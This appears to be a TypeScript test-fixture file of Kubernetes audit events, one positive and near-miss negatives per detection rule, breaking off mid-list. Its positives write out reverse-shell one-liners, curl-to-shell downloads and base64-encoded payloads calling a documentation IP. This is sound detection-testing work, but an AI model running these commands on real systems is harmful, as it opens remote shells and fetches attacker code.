// One realistic positive and at least one near-miss negative per rule, written as the
// apiserver records them at the audit level each rule needs.
import { anonymous, auditEvent, component, node, person, sa, type EventSpec } from './audit.js';
import {
  binding, configMap, container, cronJob, csr, groupSubject, hostPathVolume, job, pod, podSpec, role,
  safeContainer, saSubject, userSubject, workload, type Obj,
} from './objects.js';

export interface Sample {
  title: string;
  event: Record<string, unknown>;
  /** For positives: the rule expected first under rule_matching: first (default: the case's rule). */
  first?: string;
  /** A user rules file (text) loaded after the bundled rules for this sample. */
  overrides?: string;
  /** Extra checks on the alert of the case's rule. */
  check?: (fields: Record<string, unknown>, output: string) => void;
}

export interface RuleCase { rule: string; positives: Sample[]; negatives: Sample[] }

const E = (s: EventSpec): Record<string, unknown> => auditEvent(s);

// --- identities
const alice = person('alice@example.com', 'devs');
const mallory = person('mallory@example.com');
const admin = person('kubernetes-admin', 'system:masters');
const app = sa('team-a', 'app', 'app-7c9d8b6f5-xk2lp');
const kubeSystem = (name: string) => sa('kube-system', name);
const rsController = kubeSystem('replicaset-controller');
const kubelet = node('ip-10-0-12-34.eu-west-1.compute.internal');

const KUBECTL = 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46';
const KCM = 'kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:replicaset-controller';

// --- pod specs
const nginx = (extra: Obj = {}): Obj => container('web', 'nginx:1.27', extra);
const shell = (cmd: string, image = 'alpine:3.20'): Obj => container('main', image, { command: ['/bin/sh', '-c', cmd] });

/** A pod created by a person with kubectl at Request level. */
function podCreate(ns: string, name: string, spec: Obj, over: Partial<EventSpec> = {}): Record<string, unknown> {
  return E({
    verb: 'create', user: alice, resource: 'pods', namespace: ns, name, level: 'Request', userAgent: KUBECTL,
    requestObject: pod(name, ns, spec), ...over,
  });
}

function workloadCreate(kind: 'Deployment' | 'DaemonSet' | 'StatefulSet', ns: string, name: string, spec: Obj, over: Partial<EventSpec> = {}): Record<string, unknown> {
  const resource = `${kind.toLowerCase()}s`;
  return E({
    verb: 'create', user: alice, resource, namespace: ns, name, level: 'RequestResponse', userAgent: 'Helm/3.16.2',
    requestObject: workload(kind, name, ns, spec), responseObject: { ...workload(kind, name, ns, spec), metadata: { name, namespace: ns, uid: 'b1e2', resourceVersion: '884422' } },
    ...over,
  });
}

const SYSTEM_NS_RULE = 'Workload Created In System Namespace';

export const CASES: RuleCase[] = [
  // ------------------------------------------------------------------ initial access
  {
    rule: 'Anonymous Request Allowed',
    positives: [
      { title: 'anonymous user lists pods (bound role)', event: E({ verb: 'list', user: anonymous, resource: 'pods', namespace: 'default', userAgent: 'python-requests/2.31.0', sourceIP: '198.51.100.23', reason: 'RBAC: allowed by ClusterRoleBinding "debug-anon" of ClusterRole "view" to User "system:anonymous"' }) },
      { title: 'unauthenticated group reads a secret', event: E({ verb: 'get', user: { username: 'system:anonymous', groups: ['system:unauthenticated'] }, resource: 'secrets', namespace: 'kube-system', name: 'bootstrap-token-abcdef', userAgent: 'curl/8.5.0', sourceIP: '198.51.100.23' }) },
    ],
    negatives: [
      { title: 'load balancer health check on /healthz?verbose', event: E({ verb: 'get', user: anonymous, uri: '/healthz?verbose', userAgent: 'ELB-HealthChecker/2.0' }) },
      { title: 'kube-probe on /livez/ping', event: E({ verb: 'get', user: anonymous, uri: '/livez/ping', userAgent: 'kube-probe/1.31' }) },
      { title: 'scanner reading /version', event: E({ verb: 'get', user: anonymous, uri: '/version', userAgent: 'python-requests/2.31.0' }) },
      { title: 'anonymous request denied', event: E({ verb: 'list', user: anonymous, resource: 'pods', code: 403, userAgent: 'curl/8.5.0' }) },
    ],
  },

  // ------------------------------------------------------------------ execution: commands
  {
    rule: 'Reverse Shell In Pod Spec',
    positives: [
      { title: 'pod running bash -i >& /dev/tcp', event: podCreate('default', 'debug', podSpec([shell('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'ubuntu:24.04')])) },
      {
        title: 'cronjob with a python socket one-liner',
        event: E({
          verb: 'create', user: mallory, resource: 'cronjobs', namespace: 'default', name: 'log-rotate', level: 'Request',
          requestObject: cronJob('log-rotate', 'default', '*/5 * * * *', podSpec([container('rot', 'python:3.12-slim', {
            command: ['python3', '-c'], args: ['import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",443));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'],
          })])),
        }),
      },
      { title: 'bash 0>&1 into openssl (recorded as 0\\u003e\\u00261)', event: podCreate('default', 'tls', podSpec([shell('bash -i 0>&1 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/o')])) },
      { title: "socat exec:'bash -li'", event: podCreate('default', 'socat', podSpec([shell("socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.9:4444", 'alpine/socat:1.8.0.0')])) },
      { title: 'ncat -e in an init container', event: podCreate('team-a', 'web', podSpec([nginx()], { initContainers: [shell('ncat -e /bin/sh 203.0.113.9 9001', 'busybox:1.36')] })) },
    ],
    negatives: [
      { title: 'netcat used as a readiness wait', event: podCreate('default', 'wait', podSpec([shell('until nc -z db 5432; do sleep 2; done')])) },
      { title: 'same reverse shell pod created by the replicaset controller', event: E({ verb: 'create', user: rsController, resource: 'pods', namespace: 'default', level: 'RequestResponse', userAgent: KCM, requestObject: pod('x', 'default', podSpec([shell('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')])), responseObject: pod('x-abcde', 'default', podSpec([])) }) },
    ],
  },
  {
    rule: 'Download Piped To Shell In Pod Spec',
    positives: [
      { title: 'deployment piping curl into sh', event: workloadCreate('Deployment', 'team-a', 'updater', podSpec([shell('curl -fsSL http://203.0.113.9/install.sh | sh')])) },
      {
        title: 'job downloading and chmod +x',
        event: E({ verb: 'create', user: mallory, resource: 'jobs', namespace: 'default', name: 'setup', level: 'Request', requestObject: job('setup', 'default', podSpec([shell('wget -q -O /tmp/kworker http://203.0.113.9/k && chmod +x /tmp/kworker && /tmp/kworker')])) }),
      },
      { title: 'curl | sudo bash with quoted URL', event: podCreate('default', 'boot', podSpec([shell('curl -s "https://203.0.113.9/x" | sudo bash -s -- --quiet')])) },
    ],
    negatives: [
      { title: 'curl piped to grep in a health check', event: podCreate('default', 'probe', podSpec([shell('curl -fsS http://api:8080/healthz | grep -q ok && curl -s http://x | sha256sum')])) },
      { title: 'plain curl download', event: podCreate('default', 'fetch', podSpec([container('c', 'curlimages/curl:8.9.1', { command: ['curl', '-o', '/data/model.bin', 'https://models.example.com/m.bin'] })])) },
    ],
  },
  {
    rule: 'Encoded Payload In Pod Spec',
    positives: [
      { title: 'base64 decoded into sh', event: podCreate('default', 'b64', podSpec([shell('echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d | sh')])) },
      { title: 'long base64 blob in args', event: podCreate('default', 'blob', podSpec([container('c', 'python:3.12', { command: ['python3', '-c'], args: ['exec', 'aW1wb3J0IG9zLHN5cyx0aW1lCmZvciBpIGluIHJhbmdlKDEwMCk6CiAgICBvcy5zeXN0ZW0oImVjaG8gaGVsbG8iKQogICAgdGltZS5zbGVlcCgxKQpvcy5zeXN0ZW0oImlkIikKb3Muc3lzdGVtKCJ1bmFtZSAtYSIpCm9zLnN5c3RlbSgiY2F0IC9ldGMvcGFzc3dkIik='] })])) },
    ],
    negatives: [
      { title: 'decoding a key to a file', event: podCreate('default', 'keys', podSpec([shell('base64 -d /secrets/key.b64 > /tmp/key.pem && exec app')])) },
      { title: 'long base64 value in an env var (CA bundle)', event: podCreate('default', 'ca', podSpec([container('c', 'app:1', { env: [{ name: 'CA_BUNDLE', value: 'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSURCVENDQWUyZ0F3SUJBZ0lJZjNqR0x5c2h2S3N3RFFZSktvWklodmNOQVFFTEJRQXdGVEVUTUJFR0ExVUUKQXhNS2EzVmlaWEp1WlhSbGN6QWVGdzB5TkRBMU1qY3hNelUyTVRCYUZ3MHpOREExTWpVeE5EQXhNVEJhTUJVeApFekFSQmdOVkJBTVRDbXQxWW1WeWJtVjBaWE13Z2dFaU1BMEdDU3FHU0liM0RRRUJBUVVBQTRJQkR3QXdnZ0VLCg==' }] })])) },
    ],
  },

  // ------------------------------------------------------------------ privilege escalation: pod specs
  {
    rule: 'Privileged Container In Pod Spec',
    positives: [
      { title: 'kubectl run --privileged', event: podCreate('default', 'priv', podSpec([container('priv', 'ubuntu:24.04', { securityContext: { privileged: true } })])) },
      { title: 'privileged init container', event: podCreate('team-a', 'init', podSpec([nginx()], { initContainers: [container('setup', 'busybox:1.36', { securityContext: { privileged: true } })] })) },
      { title: 'daemonset template privileged (RequestResponse)', event: workloadCreate('DaemonSet', 'monitoring', 'node-agent', podSpec([container('agent', 'example/agent:2', { securityContext: { privileged: true } })])) },
      {
        title: 'privileged ephemeral debug container (kubectl debug --profile=sysadmin)',
        event: E({ verb: 'patch', user: alice, resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'team-a', name: 'web-0', level: 'Request', requestObject: { spec: { ephemeralContainers: [container('debugger-x7k2', 'busybox:1.36', { stdin: true, tty: true, targetContainerName: 'web', securityContext: { privileged: true } })] } } }),
      },
    ],
    negatives: [
      { title: 'privileged: false', event: podCreate('default', 'np', podSpec([container('c', 'nginx:1.27', { securityContext: { privileged: false } })])) },
      { title: 'server-side dry run', event: podCreate('default', 'priv', podSpec([container('priv', 'ubuntu:24.04', { securityContext: { privileged: true } })]), { query: 'dryRun=All&fieldManager=kubectl-run' }) },
      { title: 'kube-proxy pod created by the daemonset controller', event: E({ verb: 'create', user: kubeSystem('daemon-set-controller'), resource: 'pods', namespace: 'kube-system', level: 'RequestResponse', userAgent: KCM, requestObject: pod('kube-proxy-x', 'kube-system', podSpec([container('kube-proxy', 'registry.k8s.io/kube-proxy:v1.31.2', { securityContext: { privileged: true } })], { hostNetwork: true })), responseObject: pod('kube-proxy-9fj2k', 'kube-system', podSpec([])) }) },
      { title: 'privileged pod at Metadata level (no spec recorded)', event: E({ verb: 'create', user: alice, resource: 'pods', namespace: 'default', name: 'priv' }) },
    ],
  },
  {
    rule: 'Static Pod Manifest Directory Mounted',
    positives: [
      { title: 'hostPath /etc/kubernetes/manifests', event: podCreate('default', 'm', podSpec([container('c', 'alpine:3.20', { volumeMounts: [{ name: 'm', mountPath: '/m' }] })], { volumes: [hostPathVolume('m', '/etc/kubernetes/manifests')] })) },
      { title: 'k3s pod-manifests in a deployment', event: workloadCreate('Deployment', 'default', 'x', podSpec([container('c', 'alpine:3.20')], { volumes: [hostPathVolume('m', '/var/lib/rancher/k3s/agent/pod-manifests/')] })) },
    ],
    negatives: [
      { title: 'hostPath /etc/kubernetes-backup (sensitive, not the manifests)', event: podCreate('default', 'b', podSpec([container('c', 'alpine:3.20')], { volumes: [hostPathVolume('b', '/etc/kubernetes-backup')] })), first: 'Sensitive Host Path Mounted' },
    ],
  },
  {
    rule: 'Container Runtime Socket Mounted',
    positives: [
      { title: 'docker.sock', event: podCreate('ci', 'dind', podSpec([container('c', 'docker:27-cli')], { volumes: [hostPathVolume('sock', '/var/run/docker.sock', 'Socket')] })) },
      { title: 'containerd socket in a statefulset', event: workloadCreate('StatefulSet', 'default', 'imgs', podSpec([container('c', 'ctr:1')], { volumes: [hostPathVolume('empty', '/tmp/x'), hostPathVolume('sock', '/run/containerd/containerd.sock', 'Socket')] })) },
    ],
    negatives: [
      { title: 'hostPath /var/log/containers (log agent)', event: podCreate('logging', 'fb', podSpec([container('c', 'fluent/fluent-bit:3.1')], { volumes: [hostPathVolume('logs', '/var/log/containers')] })) },
    ],
  },
  {
    rule: 'Sensitive Host Path Mounted',
    positives: [
      { title: 'host root / mounted', event: podCreate('default', 'root', podSpec([container('c', 'alpine:3.20')], { volumes: [hostPathVolume('host', '/')] })) },
      { title: '/proc in a statefulset template', event: workloadCreate('StatefulSet', 'default', 'p', podSpec([container('c', 'alpine:3.20')], { volumes: [hostPathVolume('proc', '/proc')] })) },
      { title: 'kubelet state dir in the tenth volume of a pod', event: podCreate('default', 'many', podSpec([container('c', 'alpine:3.20')], { volumes: [...Array.from({ length: 9 }, (_, i) => ({ name: `v${i}`, emptyDir: {} })), hostPathVolume('kubelet', '/var/lib/kubelet')] })) },
      { title: 'subpath of /etc in a cronjob', event: E({ verb: 'create', user: alice, resource: 'cronjobs', namespace: 'default', name: 'c', level: 'Request', requestObject: cronJob('c', 'default', '0 * * * *', podSpec([container('c', 'alpine:3.20')], { volumes: [hostPathVolume('shadow', '/etc/shadow', 'File')] })) }) },
    ],
    negatives: [
      { title: 'hostPath /var/log and /opt/data', event: podCreate('default', 'logs', podSpec([container('c', 'alpine:3.20')], { volumes: [hostPathVolume('l', '/var/log'), hostPathVolume('d', '/opt/data')] })) },
      { title: 'emptyDir and configMap volumes only', event: podCreate('default', 'plain', podSpec([nginx()], { volumes: [{ name: 'cache', emptyDir: {} }, { name: 'cfg', configMap: { name: 'web', items: [{ key: 'a', path: 'etc/a' }] } }] })) },
    ],
  },
  {
    rule: 'Host PID Or IPC Namespace In Pod Spec',
    positives: [
      { title: 'hostPID pod', event: podCreate('default', 'pid', podSpec([container('c', 'alpine:3.20')], { hostPID: true })) },
      { title: 'hostIPC deployment', event: workloadCreate('Deployment', 'default', 'ipc', podSpec([container('c', 'alpine:3.20')], { hostIPC: true })) },
    ],
    negatives: [
      { title: 'hostPID: false', event: podCreate('default', 'pid', podSpec([container('c', 'alpine:3.20')], { hostPID: false, hostIPC: false })) },
    ],
  },
  {
    rule: 'Host Network In Pod Spec',
    positives: [
      { title: 'hostNetwork pod', event: podCreate('default', 'net', podSpec([container('c', 'nicolaka/netshoot:v0.13')], { hostNetwork: true })) },
    ],
    negatives: [
      { title: 'hostNetwork: false with a hostPort', event: podCreate('default', 'net', podSpec([container('c', 'nginx:1.27', { ports: [{ containerPort: 80, hostPort: 8080 }] })], { hostNetwork: false })) },
    ],
  },
  {
    rule: 'Dangerous Capability In Pod Spec',
    positives: [
      {
        title: 'SYS_ADMIN added',
        event: podCreate('default', 'cap', podSpec([container('c', 'alpine:3.20', { securityContext: { capabilities: { add: ['SYS_ADMIN'] } } })])),
        // the k8saudit field renders each container's add list as JSON text
        check: (f) => { if (JSON.stringify(f['ka.req.pod.containers.add_capabilities']) !== JSON.stringify(['["SYS_ADMIN"]'])) throw new Error(`add_capabilities = ${JSON.stringify(f['ka.req.pod.containers.add_capabilities'])}`); },
      },
      { title: 'CAP_SYS_PTRACE second in the list', event: podCreate('default', 'cap2', podSpec([container('c', 'alpine:3.20', { securityContext: { capabilities: { add: ['NET_BIND_SERVICE', 'CAP_SYS_PTRACE'] } } })])) },
      { title: 'ALL in an init container of a daemonset', event: workloadCreate('DaemonSet', 'default', 'ds', podSpec([nginx()], { initContainers: [container('i', 'alpine:3.20', { securityContext: { capabilities: { add: ['ALL'] } } })] })) },
    ],
    negatives: [
      { title: 'NET_BIND_SERVICE added, SYS_ADMIN dropped', event: podCreate('default', 'cap', podSpec([container('c', 'nginx:1.27', { securityContext: { capabilities: { add: ['NET_BIND_SERVICE'], drop: ['SYS_ADMIN', 'ALL'] } } })])) },
    ],
  },
  {
    rule: 'Security Profile Disabled In Pod Spec',
    positives: [
      { title: 'seccomp Unconfined', event: podCreate('default', 'sc', podSpec([container('c', 'alpine:3.20')], { securityContext: { seccompProfile: { type: 'Unconfined' } } })) },
      { title: 'procMount Unmasked', event: podCreate('default', 'pm', podSpec([container('c', 'alpine:3.20', { securityContext: { procMount: 'Unmasked' } })], { hostUsers: false })) },
      { title: 'legacy AppArmor annotation unconfined', event: E({ verb: 'create', user: alice, resource: 'pods', namespace: 'default', name: 'aa', level: 'Request', requestObject: pod('aa', 'default', podSpec([container('c', 'alpine:3.20')]), { annotations: { 'container.apparmor.security.beta.kubernetes.io/c': 'unconfined' } }) }) },
    ],
    negatives: [
      { title: 'seccomp RuntimeDefault', event: podCreate('default', 'sc', podSpec([safeContainer('c', 'app:1')], { securityContext: { seccompProfile: { type: 'RuntimeDefault' } } })) },
    ],
  },
  {
    rule: 'Privilege Escalation Allowed In Pod Spec',
    positives: [
      { title: 'allowPrivilegeEscalation: true', event: podCreate('default', 'ape', podSpec([container('c', 'app:1', { securityContext: { allowPrivilegeEscalation: true, runAsNonRoot: true } })])) },
    ],
    negatives: [
      { title: 'allowPrivilegeEscalation: false', event: podCreate('default', 'ape', podSpec([safeContainer('c', 'app:1')])) },
    ],
  },
  {
    rule: 'Root Container In Non-Root Namespace',
    positives: [
      {
        title: 'Pod Security Admission (audit=restricted) reports runAsNonRoot',
        event: podCreate('payments', 'api', podSpec([container('api', 'payments/api:3.2')]), {
          annotations: { 'pod-security.kubernetes.io/audit-violations': 'would violate PodSecurity "restricted:latest": allowPrivilegeEscalation != false (container "api" must set securityContext.allowPrivilegeEscalation=false), unrestricted capabilities (container "api" must set securityContext.capabilities.drop=["ALL"]), runAsNonRoot != true (pod or container "api" must set securityContext.runAsNonRoot=true), seccompProfile (pod or container "api" must set securityContext.seccompProfile.type to "RuntimeDefault" or "Localhost")' },
        }),
      },
      {
        title: 'namespace listed in pg_nonroot_namespaces, no runAsNonRoot',
        overrides: '- list: pg_nonroot_namespaces\n  items: [payments]\n  override:\n    items: append\n',
        event: workloadCreate('Deployment', 'payments', 'api', podSpec([container('api', 'payments/api:3.2')])),
      },
      {
        title: 'listed namespace, explicit runAsUser 0',
        overrides: '- list: pg_nonroot_namespaces\n  items: [payments]\n  override:\n    items: append\n',
        event: podCreate('payments', 'r', podSpec([container('c', 'app:1', { securityContext: { runAsUser: 0 } })], { securityContext: { runAsNonRoot: true } })),
      },
    ],
    negatives: [
      {
        title: 'listed namespace, runAsNonRoot at pod level',
        overrides: '- list: pg_nonroot_namespaces\n  items: [payments]\n  override:\n    items: append\n',
        event: podCreate('payments', 'ok', podSpec([container('c', 'app:1')], { securityContext: { runAsNonRoot: true, runAsUser: 10001 } })),
      },
      { title: 'unlisted namespace, no runAsNonRoot', event: podCreate('default', 'r', podSpec([container('c', 'app:1')])) },
      {
        title: 'PSA violation about something else',
        event: podCreate('payments', 'x', podSpec([safeContainer('c', 'app:1', { ports: [{ containerPort: 80, hostPort: 80 }] })]), {
          annotations: { 'pod-security.kubernetes.io/audit-violations': 'would violate PodSecurity "baseline:latest": hostPort (container "c" uses hostPort 80)' },
        }),
      },
    ],
  },

  // ------------------------------------------------------------------ execution: interactive access
  {
    rule: 'Pod Exec Or Attach',
    positives: [
      {
        title: 'kubectl exec over WebSocket (verb get)',
        event: E({ verb: 'get', user: alice, resource: 'pods', subresource: 'exec', namespace: 'team-a', name: 'web-0', stage: 'ResponseStarted', query: 'command=%2Fbin%2Fsh&command=-c&command=id&container=web&stdin=true&stdout=true&tty=true' }),
        check: (f) => { if (f['ka.uri.param[command]'] !== '/bin/sh') throw new Error(`command=${String(f['ka.uri.param[command]'])}`); },
      },
      { title: 'kubectl exec over SPDY (verb create)', event: E({ verb: 'create', user: admin, resource: 'pods', subresource: 'exec', namespace: 'kube-system', name: 'etcd-cp-1', stage: 'ResponseStarted', query: 'command=etcdctl&command=get&command=%2F&command=--prefix&container=etcd&stderr=true&stdout=true' }) },
      { title: 'kubectl attach', event: E({ verb: 'create', user: alice, resource: 'pods', subresource: 'attach', namespace: 'team-a', name: 'web-0', stage: 'ResponseStarted', query: 'container=web&stdin=true&stdout=true&tty=true' }) },
    ],
    negatives: [
      { title: 'the same exec session ending (ResponseComplete)', event: E({ verb: 'get', user: alice, resource: 'pods', subresource: 'exec', namespace: 'team-a', name: 'web-0', stage: 'ResponseComplete', query: 'command=sh&container=web&stdin=true&stdout=true&tty=true' }) },
      { title: 'exec denied by RBAC', event: E({ verb: 'create', user: alice, resource: 'pods', subresource: 'exec', namespace: 'kube-system', name: 'etcd-cp-1', code: 403, query: 'command=sh' }) },
      { title: 'kubectl logs (pods/log)', event: E({ verb: 'get', user: alice, resource: 'pods', subresource: 'log', namespace: 'team-a', name: 'web-0', query: 'container=web&follow=true' }) },
    ],
  },
  {
    rule: 'Ephemeral Container Added',
    positives: [
      { title: 'kubectl debug -it --image=busybox', event: E({ verb: 'patch', user: alice, resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'team-a', name: 'web-0', level: 'Request', requestObject: { spec: { ephemeralContainers: [container('debugger-8mxzq', 'busybox:1.36', { stdin: true, tty: true, targetContainerName: 'web', securityContext: { runAsNonRoot: true, runAsUser: 1000 } })] } } }) },
      { title: 'ephemeral container at Metadata level', event: E({ verb: 'patch', user: alice, resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'team-a', name: 'web-0' }) },
    ],
    negatives: [
      { title: 'reading ephemeral containers', event: E({ verb: 'get', user: alice, resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'team-a', name: 'web-0' }) },
    ],
  },
  {
    rule: 'Pod Port-Forward',
    positives: [
      { title: 'kubectl port-forward (WebSocket)', event: E({ verb: 'get', user: alice, resource: 'pods', subresource: 'portforward', namespace: 'data', name: 'postgres-0', stage: 'ResponseStarted', query: 'ports=5432' }) },
    ],
    negatives: [
      { title: 'the port-forward closing (ResponseComplete)', event: E({ verb: 'get', user: alice, resource: 'pods', subresource: 'portforward', namespace: 'data', name: 'postgres-0', stage: 'ResponseComplete', query: 'ports=5432' }) },
    ],
  },
  {
    rule: 'Node Proxy Access',
    positives: [
      { title: 'kubelet /pods through nodes/proxy', event: E({ verb: 'get', user: mallory, resource: 'nodes', subresource: 'proxy', name: 'ip-10-0-12-34', uri: '/api/v1/nodes/ip-10-0-12-34/proxy/pods', userAgent: 'curl/8.5.0' }) },
      { title: 'kubelet /run through nodes/proxy by a workload', event: E({ verb: 'create', user: app, resource: 'nodes', subresource: 'proxy', name: 'ip-10-0-12-34', uri: '/api/v1/nodes/ip-10-0-12-34/proxy/run/team-b/db-0/db', userAgent: 'python-requests/2.31.0' }) },
    ],
    negatives: [
      { title: 'node stats (nodes/stats)', event: E({ verb: 'get', user: alice, resource: 'nodes', subresource: 'stats', name: 'ip-10-0-12-34' }) },
      { title: 'metrics-server in kube-system', event: E({ verb: 'get', user: kubeSystem('metrics-server'), resource: 'nodes', subresource: 'proxy', name: 'ip-10-0-12-34', uri: '/api/v1/nodes/ip-10-0-12-34/proxy/metrics/resource' }) },
    ],
  },
  {
    rule: 'Direct Kubelet API Access',
    positives: [
      {
        title: 'kubelet authorizing a workload token for /exec',
        event: E({
          verb: 'create', user: kubelet, resource: 'subjectaccessreviews', level: 'RequestResponse', userAgent: 'kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46',
          requestObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { resourceAttributes: { verb: 'create', resource: 'nodes', subresource: 'proxy', name: 'ip-10-0-12-34' }, user: 'system:serviceaccount:team-a:app', groups: ['system:serviceaccounts', 'system:serviceaccounts:team-a', 'system:authenticated'] }, status: { allowed: false } },
          responseObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', metadata: { creationTimestamp: null }, spec: {}, status: { allowed: true, reason: 'RBAC: allowed by ClusterRoleBinding "node-admin"' } },
        }),
      },
    ],
    negatives: [
      { title: 'AKS control plane relaying exec (masterclient)', event: E({ verb: 'create', user: kubelet, resource: 'subjectaccessreviews', level: 'Request', requestObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: { resourceAttributes: { verb: 'create', resource: 'nodes', subresource: 'proxy' }, user: 'masterclient', groups: ['system:masters', 'system:authenticated'] }, status: { allowed: false } } }) },
      { title: 'apiserver relaying kubectl exec', event: E({ verb: 'create', user: kubelet, resource: 'subjectaccessreviews', level: 'Request', requestObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: { resourceAttributes: { verb: 'create', resource: 'nodes', subresource: 'proxy', name: 'ip-10-0-12-34' }, user: 'kube-apiserver-kubelet-client', groups: ['system:masters', 'system:authenticated'] }, status: { allowed: false } } }) },
      { title: 'prometheus scraping nodes/metrics', event: E({ verb: 'create', user: kubelet, resource: 'subjectaccessreviews', level: 'Request', requestObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: { resourceAttributes: { verb: 'get', resource: 'nodes', subresource: 'metrics', name: 'ip-10-0-12-34' }, user: 'system:serviceaccount:monitoring:prometheus' }, status: { allowed: false } } }) },
      {
        title: 'refused by RBAC (RequestResponse shows allowed: false)',
        event: E({ verb: 'create', user: kubelet, resource: 'subjectaccessreviews', level: 'RequestResponse', requestObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: { resourceAttributes: { verb: 'create', resource: 'nodes', subresource: 'proxy' }, user: 'system:serviceaccount:team-a:app' } }, responseObject: { kind: 'SubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: {}, status: { allowed: false } } }),
      },
    ],
  },

  // ------------------------------------------------------------------ RBAC
  {
    rule: 'Binding Grants Access To Anonymous Or All Users',
    positives: [
      { title: 'view bound to system:unauthenticated', event: E({ verb: 'create', user: admin, resource: 'clusterrolebindings', name: 'anon-view', level: 'Request', requestObject: binding('ClusterRoleBinding', 'anon-view', undefined, { kind: 'ClusterRole', name: 'view' }, [groupSubject('system:unauthenticated')]) }) },
      { title: 'edit bound to all authenticated users in a namespace', event: E({ verb: 'create', user: alice, resource: 'rolebindings', namespace: 'team-a', name: 'everyone', level: 'Request', requestObject: binding('RoleBinding', 'everyone', 'team-a', { kind: 'ClusterRole', name: 'edit' }, [groupSubject('system:authenticated')]) }) },
    ],
    negatives: [
      { title: 'binding to a team group', event: E({ verb: 'create', user: alice, resource: 'rolebindings', namespace: 'team-a', name: 'devs', level: 'Request', requestObject: binding('RoleBinding', 'devs', 'team-a', { kind: 'ClusterRole', name: 'edit' }, [groupSubject('devs')]) }) },
    ],
  },
  {
    rule: 'Binding To Privileged Cluster Role',
    positives: [
      { title: 'cluster-admin to a user', event: E({ verb: 'create', user: mallory, resource: 'clusterrolebindings', name: 'backup-admin', level: 'Request', requestObject: binding('ClusterRoleBinding', 'backup-admin', undefined, { kind: 'ClusterRole', name: 'cluster-admin' }, [userSubject('mallory@example.com')]) }) },
      { title: 'cluster-admin to a service account via RoleBinding', event: E({ verb: 'create', user: alice, resource: 'rolebindings', namespace: 'team-a', name: 'app-admin', level: 'Request', requestObject: binding('RoleBinding', 'app-admin', 'team-a', { kind: 'ClusterRole', name: 'cluster-admin' }, [saSubject('team-a', 'app')]) }) },
      { title: 'a controller role granted cluster-wide', event: E({ verb: 'create', user: alice, resource: 'clusterrolebindings', name: 'x', level: 'Request', requestObject: binding('ClusterRoleBinding', 'x', undefined, { kind: 'ClusterRole', name: 'system:controller:clusterrole-aggregation-controller' }, [saSubject('default', 'default')]) }) },
      { title: 'subjects of the cluster-admin binding patched (Metadata)', event: E({ verb: 'patch', user: mallory, resource: 'clusterrolebindings', name: 'cluster-admin' }) },
    ],
    negatives: [
      { title: 'admin ClusterRole granted in one namespace', event: E({ verb: 'create', user: alice, resource: 'rolebindings', namespace: 'team-a', name: 'lead', level: 'Request', requestObject: binding('RoleBinding', 'lead', 'team-a', { kind: 'ClusterRole', name: 'admin' }, [userSubject('bob@example.com')]) }) },
      { title: 'a namespaced Role that happens to be named cluster-admin', event: E({ verb: 'create', user: alice, resource: 'rolebindings', namespace: 'team-a', name: 'x', level: 'Request', requestObject: binding('RoleBinding', 'x', 'team-a', { kind: 'Role', name: 'cluster-admin' }, [userSubject('bob@example.com')]) }) },
    ],
  },
  {
    rule: 'Role With Wildcard Permissions',
    positives: [
      { title: 'ClusterRole * on *', event: E({ verb: 'create', user: mallory, resource: 'clusterroles', name: 'super', level: 'Request', requestObject: role('ClusterRole', 'super', undefined, [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }]) }) },
      { title: 'Role with verbs *', event: E({ verb: 'patch', user: alice, resource: 'roles', namespace: 'team-a', name: 'app', level: 'Request', requestObject: { rules: [{ apiGroups: [''], resources: ['configmaps'], verbs: ['*'] }] } }) },
    ],
    negatives: [
      { title: 'read-only pods role', event: E({ verb: 'create', user: alice, resource: 'roles', namespace: 'team-a', name: 'reader', level: 'Request', requestObject: role('Role', 'reader', 'team-a', [{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list', 'watch'] }]) }) },
    ],
  },
  {
    rule: 'Role Grants Escalate Bind Or Impersonate',
    positives: [
      { title: 'impersonate users and groups', event: E({ verb: 'create', user: alice, resource: 'clusterroles', name: 'imp', level: 'Request', requestObject: role('ClusterRole', 'imp', undefined, [{ apiGroups: [''], resources: ['users', 'groups', 'serviceaccounts'], verbs: ['impersonate'] }]) }) },
      { title: 'bind and escalate on roles', event: E({ verb: 'create', user: alice, resource: 'roles', namespace: 'team-a', name: 'rbac-mgr', level: 'Request', requestObject: role('Role', 'rbac-mgr', 'team-a', [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['roles', 'rolebindings'], verbs: ['get', 'bind', 'escalate'] }]) }) },
    ],
    negatives: [
      { title: 'read roles only', event: E({ verb: 'create', user: alice, resource: 'roles', namespace: 'team-a', name: 'rbac-view', level: 'Request', requestObject: role('Role', 'rbac-view', 'team-a', [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['roles', 'rolebindings'], verbs: ['get', 'list'] }]) }) },
    ],
  },
  {
    rule: 'Role Grants Secrets Or Pod Exec',
    positives: [
